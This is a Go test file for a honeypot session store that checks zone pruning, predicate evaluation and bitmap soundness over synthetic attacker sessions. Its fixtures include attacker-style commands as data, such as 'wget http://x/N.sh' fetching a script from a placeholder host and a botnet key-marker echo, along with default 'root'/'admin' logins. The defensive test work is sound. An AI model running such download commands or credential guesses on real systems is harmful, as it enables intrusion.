package store

import (
	"fmt"
	"io"
	"math/rand"
	"regexp"
	"testing"
	"time"

	"honeynet/internal/session"
)

// zoneRecs are records laid out so that zones differ: kinds and
// protocols come in runs longer than a 2 KiB block, so blocks — and,
// sealed in slices, segments — hold one kind or protocol as often as
// several, and some hold a protocol the masks do not name. Their
// fragments vary too: escaped passwords and commands, two-command
// sessions, downloads, timeouts.
func zoneRecs(from, n int) []*session.Record {
	recs := make([]*session.Record, 0, n)
	for i := from; i < from+n; i++ {
		r := mkRecord(0, i*300) // 97 s apart × 300: ~75 days over the slice of 220
		r.Logins, r.Commands, r.Downloads, r.StateChanged = nil, nil, nil, false
		switch session.Kind(i / 40 % 4) {
		case session.Scouting:
			r.Logins = []session.LoginAttempt{{Username: "root", Password: "x"}}
		case session.Intrusion:
			r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
			if i%6 == 0 {
				r.Logins = append([]session.LoginAttempt{{Username: "admin", Password: "adm<in"}}, r.Logins...)
			}
		case session.CommandExec:
			r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
			r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh", i)}}
			if i%3 == 0 {
				r.Commands = append(r.Commands, session.Command{Raw: `echo "mdrfckr">>k`, Known: true})
				r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Size: int64(i)}}
			}
			r.StateChanged = i%2 == 0
		}
		r.TimedOut = i%5 == 0
		r.Protocol = [...]string{session.ProtoSSH, session.ProtoTelnet, session.ProtoSSH, "http"}[i/110%4]
		recs = append(recs, r)
	}
	return recs
}

// zoned is one zone of the store under test beside the records it
// summarizes.
type zoned struct {
	name string
	z    zone
	recs []*session.Record
	seg  *segmentMeta // a v3 block's zone: its segment and index
	bi   int
}

// openZoned builds a store — the legacy fixture, which the first
// read-write open migrates to one v3 segment, plus three v3 seals of
// zoneRecs — and lists every zone it holds: each segment's, each kind
// and protocol bucket's, each block directory's.
func openZoned(t *testing.T) (*Store, []zoned) {
	t.Helper()
	dir := t.TempDir()
	copyLegacy(t, dir)
	for i := 0; i < 3; i++ {
		sealInto(t, dir, zoneRecs(i*220, 220))
	}
	s, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })

	var out []zoned
	man, _ := s.snapshot()
	for _, seg := range man.Segments {
		cs, err := s.openColSeg(seg, nil)
		if err != nil {
			t.Fatal(err)
		}
		br := &colReader{cs: cs}
		var recs []*session.Record
		for {
			_, line, err := br.next()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			r := &session.Record{}
			if err := new(session.JSONDecoder).Decode(line, r); err != nil {
				t.Fatal(err)
			}
			recs = append(recs, r)
		}
		br.close()
		out = append(out, zoned{name: seg.File, z: seg.zone(), recs: recs})

		for _, by := range []Field{FieldKind, FieldProto} {
			buckets, n := seg.buckets(by, seg.zone())
			for i, bk := range buckets[:n] {
				b := zoned{name: fmt.Sprintf("%s %s bucket %d", seg.File, by.Name(), i), z: bk.zone}
				for _, r := range recs {
					if bk.kinds&(1<<uint(r.Kind())) != 0 && bk.protos&protoMaskBit(r.Protocol) != 0 {
						b.recs = append(b.recs, r)
					}
				}
				if len(b.recs) != bk.n {
					t.Fatalf("%s: zone covers %d records, manifest counts %d", b.name, len(b.recs), bk.n)
				}
				out = append(out, b)
			}
		}

		cs, err = s.openColSeg(seg, nil)
		if err != nil {
			t.Fatal(err)
		}
		rest := recs
		for bi, bm := range cs.blocks {
			var d colDir
			if err := cs.readDir(bi, &d); err != nil {
				t.Fatal(err)
			}
			out = append(out, zoned{name: fmt.Sprintf("%s block %d", seg.File, bi), z: d.zone(), recs: rest[:bm.Count], seg: seg, bi: bi})
			rest = rest[bm.Count:]
		}
		cs.close()
	}
	return s, out
}

// genZonePred draws a random predicate tree whose leaves are the ones a
// zone can decide (start, month, day, kind, proto — every comparison,
// including literals that begin no month or day) mixed with ones it
// cannot (ip and fragLeaves).
func genZonePred(rng *rand.Rand, depth int) *Pred {
	if depth > 0 && rng.Intn(3) > 0 {
		switch rng.Intn(3) {
		case 0:
			return And(genZonePred(rng, depth-1), genZonePred(rng, depth-1))
		case 1:
			return Or(genZonePred(rng, depth-1), genZonePred(rng, depth-1))
		}
		return Not(genZonePred(rng, depth-1))
	}
	order := CmpOp(rng.Intn(int(CmpGe) + 1))
	// Instants across the fixture's month (2021-12) and zoneRecs'
	// (2021-05 to 2021-11), on and off bucket boundaries.
	at := time.Date(2021, 5, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(rng.Intn(250*24)) * time.Hour)
	if rng.Intn(3) == 0 {
		at = mkRecord(0, rng.Intn(660)*300).Start // a start some record has
	}
	switch rng.Intn(9) {
	case 0:
		return Cmp(FieldStart, order, TimeValue(at))
	case 1:
		return Cmp(FieldMonth, order, MonthValue(time.Date(at.Year(), at.Month(), 1, 0, 0, 0, 0, time.UTC)))
	case 2:
		return Cmp(FieldDay, order, DayValue(at.Truncate(24*time.Hour)))
	case 3:
		return Cmp([]Field{FieldMonth, FieldDay}[rng.Intn(2)], order, TimeValue(at))
	case 4:
		return Cmp(FieldKind, order, KindValue(session.Kind(rng.Intn(4))))
	case 5:
		protos := []string{session.ProtoSSH, session.ProtoTelnet, "http"}
		return Cmp(FieldProto, []CmpOp{CmpEq, CmpNe, CmpLt}[rng.Intn(3)], StringValue(protos[rng.Intn(3)]))
	case 6:
		return Match(FieldProto, regexp.MustCompile("^s"), rng.Intn(2) == 0)
	case 7:
		return Cmp(FieldIP, CmpEq, StringValue(fmt.Sprintf("203.0.0.%d", rng.Intn(250))))
	}
	leaves := fragLeaves()
	return leaves[rng.Intn(len(leaves))]
}

// fragLeaves are leaves a block decides row by row: login_ok from the
// kind byte, and each field the fragment kernels read, with
// equality and its negation, orderings on counts and text, integer and
// float literals, and command patterns with and without a necessary
// literal — one whose literal spans the newline that joins two
// commands — matched and negated.
func fragLeaves() []*Pred {
	re := regexp.MustCompile
	return []*Pred{
		Cmp(FieldLoginOK, CmpEq, BoolValue(true)),
		Cmp(FieldLoginOK, CmpNe, BoolValue(true)),
		Cmp(FieldUser, CmpEq, StringValue("root")),
		Cmp(FieldUser, CmpNe, StringValue("root")),
		Cmp(FieldPassword, CmpEq, StringValue("adm<in")),
		Match(FieldPassword, re("^adm"), false),
		Cmp(FieldLogins, CmpGe, IntValue(2)),
		Cmp(FieldLogins, CmpLt, FloatValue(0.5)),
		Cmp(FieldCommands, CmpGt, IntValue(1)),
		Cmp(FieldCommands, CmpEq, IntValue(0)),
		Cmp(FieldDownloads, CmpNe, IntValue(0)),
		Cmp(FieldStateChanged, CmpEq, BoolValue(false)),
		Cmp(FieldTimedOut, CmpEq, BoolValue(true)),
		Match(FieldCmd, re("wget"), false),
		Match(FieldCmd, re("mdrfckr"), true),
		Match(FieldCmd, re(`"mdr`), false),
		Match(FieldCmd, re(`\d{3}`), false),
		Match(FieldCmd, re(`sh\necho`), false),
		Match(FieldCmd, re(`sh\necho`), true),
		Cmp(FieldCmd, CmpEq, StringValue("")),
		Cmp(FieldCmd, CmpGe, StringValue("wget http://x/5")),
	}
}

// TestTriSoundOverEveryZone: whatever a zone's verdict on a predicate,
// the row Filter — the truth — agrees on every record the zone covers:
// triFalse means none matches, triTrue means all do. Segment zones,
// metadata bucket zones and block directory zones alike, under OR and
// NOT as much as AND.
func TestTriSoundOverEveryZone(t *testing.T) {
	_, zones := openZoned(t)
	rng := rand.New(rand.NewSource(21))
	var verdicts [3]int
	for i := 0; i < 1500; i++ {
		pred := genZonePred(rng, 3)
		p, err := lower(&Query{Where: pred})
		if err != nil {
			t.Fatal(err)
		}
		for _, zd := range zones {
			hits := 0
			for _, r := range zd.recs {
				if p.filter(r) {
					hits++
				}
			}
			v := p.tri(zd.z)
			verdicts[v]++
			if v == triFalse && hits != 0 || v == triTrue && hits != len(zd.recs) {
				t.Fatalf("predicate %d over %s (%+v): verdict %d, but %d of %d records match",
					i, zd.name, zd.z, v, hits, len(zd.recs))
			}
		}
	}
	if verdicts[triFalse] == 0 || verdicts[triTrue] == 0 || verdicts[triUnknown] == 0 {
		t.Fatalf("verdicts (false, true, unknown) = %v: the generator exercises nothing", verdicts)
	}
	t.Logf("verdicts over %d zones: %d false, %d true, %d unknown",
		len(zones), verdicts[triFalse], verdicts[triTrue], verdicts[triUnknown])
}

// blockBits evaluates a compiled predicate over block bi of a v3
// segment the way a scan does — sidecars, the raw stripe and the
// predicate's columns loaded — and returns the bitmap pair.
func blockBits(t testing.TB, cs *colSeg, bi int, prog *vecProg) (lo, hi []uint64) {
	t.Helper()
	var d colDir
	if err := cs.readDir(bi, &d); err != nil {
		t.Fatal(err)
	}
	if err := cs.loadSidecars(&d, nil); err != nil {
		t.Fatal(err)
	}
	if err := cs.loadRaw(&d, nil); err != nil {
		t.Fatal(err)
	}
	for c := 0; c < session.NumColumns; c++ {
		if prog.cols.Has(c) {
			if err := cs.loadCol(&d, c, nil); err != nil {
				t.Fatal(err)
			}
		}
	}
	var arena []uint64
	a := bmAlloc{arena: &arena}
	words := bmWords(d.rows)
	lo, hi = a.get(words), a.get(words)
	prog.root.eval(&vecEnv{sc: cs.sc, rows: d.rows, tnOK: len(cs.sc.tnanos) == d.rows}, &a, lo, hi)
	return lo, hi
}

// TestBitmapSoundOverEveryBlock: the column bitmap of every v3 block
// agrees with the row Filter on every row — lo only where the record
// matches, hi wherever it does — and a fragment leaf alone decides
// every canonical row exactly.
func TestBitmapSoundOverEveryBlock(t *testing.T) {
	s, zones := openZoned(t)
	rng := rand.New(rand.NewSource(27))
	var plans []*plan
	for _, pred := range fragLeaves() {
		p, err := lower(&Query{Where: pred})
		if err != nil {
			t.Fatal(err)
		}
		plans = append(plans, p)
	}
	leaves := len(plans)
	for len(plans) < 400 {
		p, err := lower(&Query{Where: genZonePred(rng, 3)})
		if err != nil {
			t.Fatal(err)
		}
		if p.prog != nil {
			plans = append(plans, p)
		}
	}
	blocks, decided, rows := 0, 0, 0
	for _, zd := range zones {
		if zd.seg == nil {
			continue
		}
		blocks++
		cs, err := s.openColSeg(zd.seg, nil)
		if err != nil {
			t.Fatal(err)
		}
		for pi, p := range plans {
			lo, hi := blockBits(t, cs, zd.bi, p.prog)
			for j, r := range zd.recs {
				truth := p.filter(r)
				if bmHas(lo, j) && !truth || truth && !bmHas(hi, j) {
					t.Fatalf("%s row %d, predicate %d: lo %v hi %v, Filter %v", zd.name, j, pi, bmHas(lo, j), bmHas(hi, j), truth)
				}
				if pi < leaves && bmHas(lo, j) != bmHas(hi, j) {
					t.Fatalf("%s row %d: fragment leaf %d left a canonical row unknown", zd.name, j, pi)
				}
				rows++
				if bmHas(lo, j) == bmHas(hi, j) {
					decided++
				}
			}
		}
		cs.close()
	}
	if blocks == 0 {
		t.Fatal("no v3 blocks")
	}
	t.Logf("%d blocks × %d predicates: %d of %d row verdicts exact", blocks, len(plans), decided, rows)
}

// TestMonthUnderOrPrunesBlocks: a month leaf is a start-time interval
// wherever it stands in the tree, so `month = M OR kind = K` refutes
// the segments and blocks that hold neither — and still returns what
// the row Filter selects.
func TestMonthUnderOrPrunesBlocks(t *testing.T) {
	s, _ := openZoned(t)
	pred := Or(
		Cmp(FieldMonth, CmpEq, MonthValue(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))),
		Cmp(FieldKind, CmpEq, KindValue(session.Intrusion)))
	res, err := s.RunQuery(&Query{Where: pred, Select: []Field{FieldStart, FieldKind}})
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	got := 0
	for res.Next() {
		got++
	}
	if err := res.Err(); err != nil {
		t.Fatal(err)
	}
	keep, err := CompilePred(pred)
	if err != nil {
		t.Fatal(err)
	}
	want := 0
	for _, r := range runRows(t, s, &Query{}) {
		if keep(r) {
			want++
		}
	}
	if got != want || want == 0 {
		t.Fatalf("query returned %d records, the filter selects %d", got, want)
	}
	st := res.Stats()
	if st.TimePruned == 0 || st.BlocksZonePruned == 0 {
		t.Fatalf("expected zone-pruned segments and blocks, stats: %+v", st)
	}
	t.Logf("%d rows; %d of %d segments and %d blocks zone-pruned, %d blocks read",
		got, st.TimePruned, st.Segments, st.BlocksZonePruned, st.BlocksRead)
}
